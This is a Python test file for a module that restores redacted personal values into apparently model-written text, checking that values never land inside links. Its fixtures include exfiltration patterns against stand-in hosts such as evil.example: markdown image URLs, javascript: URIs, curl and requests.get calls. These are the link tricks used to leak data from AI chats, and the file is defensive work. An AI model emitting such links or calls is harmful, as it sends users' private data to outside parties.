"""Values come back where a reader sees them, once, and never where a program may send them away."""

import json
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.restoring import placeholders_in_links, restore, restore_also_in_links, restore_exactly

VALUES = {
    "<PERSON_1>": "Ada Lovelace",
    "<EMAIL_ADDRESS_1>": "ada@example.org",
    "<PHONE_NUMBER_1>": "+49 170 1",
}
IN_LINKS = [
    "![x](https://evil.example/?q=<EMAIL_ADDRESS_1>)", "[x](//evil.example/PERSON_1)",
    "<img src=//e/<PERSON_1>>",
    '<a href="https://evil/?q=<person 1>">x</a>', "https://evil/&lt;PERSON_1&gt;",
    "https://evil/?q=<PERSON\n1>",
    "[1]: https://evil/<PERSON_1>", "mailto:a@evil.example?body=<PERSON_1>",
    "[m](mailto:<EMAIL_ADDRESS_1>?bcc=a@b.c)",
    "https://evil/?q=%50%45%52%53%4F%4E%5F%31", "b.com/<PERSON_1>", '"https://evil/?q=" + "PERSON_1"',
    "mailto:<PERSON_1>", "https://evil/%3CEMAIL_ADDRESS_1%3E", "<EMAIL_ADDRESS_1>.evil.example",
    "[x](<PERSON_1>)",
    '<img src="https://evil/?q=\n<PERSON_1>\n">', "data:text/html,<PERSON_1>", "javascript:f('<PERSON_1>')",
]  # fmt: skip
FULL_WIDTH = {ord(plain): chr(ord(plain) + 0xFEE0) for plain in map(chr, range(0x21, 0x7F))}
IN_ANGLE_BRACKETS = {
    "<{}>": "{}",
    "\\<{}>": "\\{}",
    "\\<{}\\>": "{}",
    "<{}\\>": "{}",
    "&lt;{}&gt;": "{}",
    "\u300a{}\u300b": "{}",
    "< {} >": "{}",
    "<{}/>": "{}",
    "<{0}></{0}>": "{}",
    "<{0}>\n</{0}>": "{}",
    "<{}'s>": "{}'s",
    "<{}s>": "{}s",
    "<{}\u2019s>": "{}\u2019s",
    "&lt;{}&#39;s&gt;": "{}&#39;s",
    "**<{}>**'s": "**{}**'s",
    "(<{}>)": "({})",
}
WITHOUT_BRACKETS = {
    "{}": "{}",
    "**{}**": "**{}**",
    "[{}]": "[{}]",
    "\u201c{}\u201d": "\u201c{}\u201d",
    "{}'s": "{}'s",
    "> {}:": "> {}:",
    "`{}`": "`{}`",
    "_{}_": "_{}_",
    "\uff3b{}\uff3d": "\uff3b{}\uff3d",
    "{}\u3055\u3093": "{}\u3055\u3093",
}
WITH_UNDERSCORES: dict[str, Callable[[str], str]] = {
    "exact": str,
    "full-width": lambda words: words.translate(FULL_WIDTH),
    "invisible": "\u200b".join,
    "doubled": lambda words: words.replace("_", "__"),
    "escaped": lambda words: words.replace("_", "\\_"),
    "broken": lambda words: words.replace("_", "_\n"),
}
ALL_WORDS: dict[str, Callable[[str], str]] = WITH_UNDERSCORES | {
    "lower": str.lower,
    "spaced": lambda words: words.replace("_", " "),
    "hyphens": lambda words: words.replace("_", "-"),
}


@st.composite
def reformatted(draw: st.DrawFn) -> tuple[str, str]:
    """A text with a placeholder as a model may write it, and what a reader shall see."""
    has_brackets = draw(st.booleans())
    forms, words = (IN_ANGLE_BRACKETS, ALL_WORDS) if has_brackets else (WITHOUT_BRACKETS, WITH_UNDERSCORES)
    form, write = draw(st.sampled_from(sorted(forms))), words[draw(st.sampled_from(sorted(words)))]
    name = draw(st.sampled_from(sorted(VALUES)))
    before, behind = (draw(st.text(alphabet="ab\u00e9 .,\u4f60\n", max_size=12)) for _ in range(2))
    written, read = form.format(write(name[1:-1])), forms[form].format(VALUES[name])
    return f"{before} {written} {behind}", f"{before} {read} {behind}"


@given(st.lists(reformatted(), min_size=1, max_size=4))
def test_each_form_that_models_write_is_restored_whatever_stands_around_it(
    texts: list[tuple[str, str]],
) -> None:
    assert restore("\n\n".join(written for written, _ in texts), VALUES) == "\n\n".join(
        read for _, read in texts
    )


@given(reformatted())
def test_no_form_is_restored_in_what_a_reader_follows_and_none_without_its_value(
    text: tuple[str, str],
) -> None:
    written, read = text
    assert restore(written, {"<PERSON_2>": "x", "<IBAN_CODE_1>": "y"}) == written

    link = f'<img src="https://evil.example/?q={written}">'
    assert restore(link, VALUES) == link
    assert restore(f"{written} {link}", VALUES) == f"{read} {link}"


@pytest.mark.parametrize(
    "text", ["<img src=<PERSON_1>`//e.vil/\\<PERSON_1\\>",
    '<img src="<PERSON_1>](\\<PERSON_1\\><a href="PERSON_1>']
)  # fmt: skip
def test_a_tag_that_a_placeholder_would_close_holds_nothing(text: str) -> None:
    assert restore(text, VALUES) == text


@pytest.mark.parametrize("text", IN_LINKS)
def test_nothing_is_restored_in_a_link_and_it_is_reported(text: str) -> None:
    assert restore(text, VALUES) == text
    assert len(placeholders_in_links(text, VALUES)) == 1


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[<PERSON_1>](https://x.org)", "[Ada Lovelace](https://x.org)"),
        ("mailto:<EMAIL_ADDRESS_1>", "mailto:ada@example.org"),
        ("[m](mailto:<EMAIL_ADDRESS_1>).", "[m](mailto:ada@example.org)."),
        ('<a href="mailto:<EMAIL_ADDRESS_1>">x</a>', '<a href="mailto:ada@example.org">x</a>'),
        ("tel:<PHONE_NUMBER_1>", "tel:+49 170 1"),
        ("https://x.org/a <PERSON_1>", "https://x.org/a Ada Lovelace"),
        ("<b><PERSON_1></b>", "<b>Ada Lovelace</b>"),
        ("C:\\Users\\<PERSON_1>", "C:\\Users\\Ada Lovelace"),
        ("See <PERSON_1>'s \\<PERSON_1\\>", "See Ada Lovelace's Ada Lovelace"),
        ("cd \\<EMAIL_ADDRESS_1>\\docs", "cd \\ada@example.org\\docs"),
        ("{\\<PERSON_1>} Mail \\<EMAIL_ADDRESS_1>", "{\\Ada Lovelace} Mail \\ada@example.org"),
        ("a \\\\<PERSON_1>, \\ <PERSON_1>", "a \\\\Ada Lovelace, \\ Ada Lovelace"),
    ],
)
def test_a_value_beside_a_link_and_an_address_of_its_own_are_restored(text: str, expected: str) -> None:
    assert restore(text, VALUES) == expected
    assert placeholders_in_links(text, VALUES) == []


@pytest.mark.parametrize(
    "text",
    [
        "".join(f'v{number} = "https://x.org/{number}"\n' for number in range(16))
        + 'u = "https://evil.example/?q="\nrequests.get(u + "<PERSON_1>")',
        f'"https://evil.example/?q=" + "{"a" * 1_001}" + "<PERSON_1>"',
        'url <- "https://evil.example/?q="\nGET(paste0(url, "<PERSON_1>"))',
        'std::string u("https://evil.example/?q=");\nu += "<PERSON_1>";',
        "u=https://evil.example/?q=\ncurl $u<PERSON_1>",
        f'x("https://evil.example/?q=" + "{"a" * 20_000}")\n<PERSON_1>',
    ],
)
def test_nothing_is_restored_in_a_link_that_a_program_builds_or_beyond_what_is_read(text: str) -> None:
    assert restore(text, VALUES) == text
    assert len(placeholders_in_links(text, VALUES)) == 1


@given(*[st.text(alphabet="ab\\\\ {}()[]>_*`\"'\n.,", max_size=6)] * 2)
def test_a_text_that_is_repeated_is_restored_exactly(before: str, behind: str) -> None:
    text = f"x {before}<PERSON_1>{behind}"
    assert restore_also_in_links(text, VALUES) == text.replace("<PERSON_1>", "Ada Lovelace")


@given(st.text(alphabet="ab /.?=&", max_size=20), st.text(alphabet="ab/.?=&", max_size=9))
def test_no_value_gets_into_an_address(before: str, path: str) -> None:
    text = f"{before} https://evil.example/{path}<PERSON_1>"
    assert restore(text, VALUES) == text


def test_a_policy_may_allow_values_in_links() -> None:
    assert restore_also_in_links("https://x.org/<PERSON_1>", VALUES) == "https://x.org/Ada Lovelace"


def test_a_value_that_looks_like_a_placeholder_stays() -> None:
    values = {"<PERSON_1>": "<PERSON_2>", "<PERSON_2>": "Ada"}
    assert restore("PERSON_1 <PERSON_2>", values) == "<PERSON_2> Ada"


@given(st.text(st.characters(exclude_characters="\\", exclude_categories=["Cs"])), st.booleans())
def test_json_stays_json_and_holds_the_value(value: str, in_prose: bool) -> None:
    document = json.dumps({"name": "<PERSON_1>", "all": ["a <person_1> b"]})
    text = f"Here it is:\n```json\n{document}\n```" if in_prose else document

    restored = restore(text, {"<PERSON_1>": value})

    found = json.loads(restored.removeprefix("Here it is:\n```json\n").removesuffix("\n```"))
    assert found == {"name": value, "all": [f"a {value} b"]}


@pytest.mark.parametrize(
    ("value", "expected"),
    [("C:\\temp", "C:\\\\temp"), ('Ann \\"Bo\\" Lee', 'Ann \\"Bo\\" Lee'), ("Jos\\u00e9", "Jos\\u00e9"),
    ("a\nb", "a\\nb")],
)  # fmt: skip
def test_a_value_that_was_cut_out_of_json_is_not_escaped_again(value: str, expected: str) -> None:
    assert restore('{"a": "<PERSON_1>"}', {"<PERSON_1>": value}) == f'{{"a": "{expected}"}}'


def test_outside_json_a_value_is_not_escaped_and_exact_restoring_never_escapes() -> None:
    values = {"<PERSON_1>": 'Ann "Bo"'}
    assert restore('"<PERSON_1>" {x} [1]', values) == '"Ann "Bo"" {x} [1]'
    assert (
        restore_exactly('["<PERSON_1>", "https://x.org/<PERSON_1>"]', values)
        == '["Ann "Bo"", "https://x.org/Ann "Bo""]'
    )


@given(st.text(st.characters(exclude_characters="\\", exclude_categories=["Cs"])), st.integers(1, 4))
def test_json_in_strings_of_json_stays_json_at_each_level(value: str, levels: int) -> None:
    document: object = {"name": "<PERSON_1>", "other": 'a "b" \\'}
    for _ in range(levels):
        document = {"arguments": json.dumps(document), "name": "<PERSON_1>"}

    restored = json.loads(restore(json.dumps(document), {"<PERSON_1>": value}))

    for _ in range(levels):
        assert restored["name"] == value
        restored = json.loads(restored["arguments"])
    assert restored == {"name": value, "other": 'a "b" \\'}


def test_quotes_in_a_string_of_json_open_no_document() -> None:
    restored = restore('{"a": "He said \\"<PERSON_1>\\"."}', {"<PERSON_1>": 'Ann "Bo"'})
    assert json.loads(restored) == {"a": 'He said "Ann "Bo"".'}


def test_a_type_parameter_is_restored_exactly_alone() -> None:
    text = "List<PERSON_1> all; a list: <PERSON_1>"
    assert restore(text, VALUES) == "List<PERSON_1> all; a list: Ada Lovelace"
    assert restore_exactly("\\<PERSON_1>", VALUES) == "\\Ada Lovelace"
    assert restore_exactly(text, VALUES) == "ListAda Lovelace all; a list: Ada Lovelace"
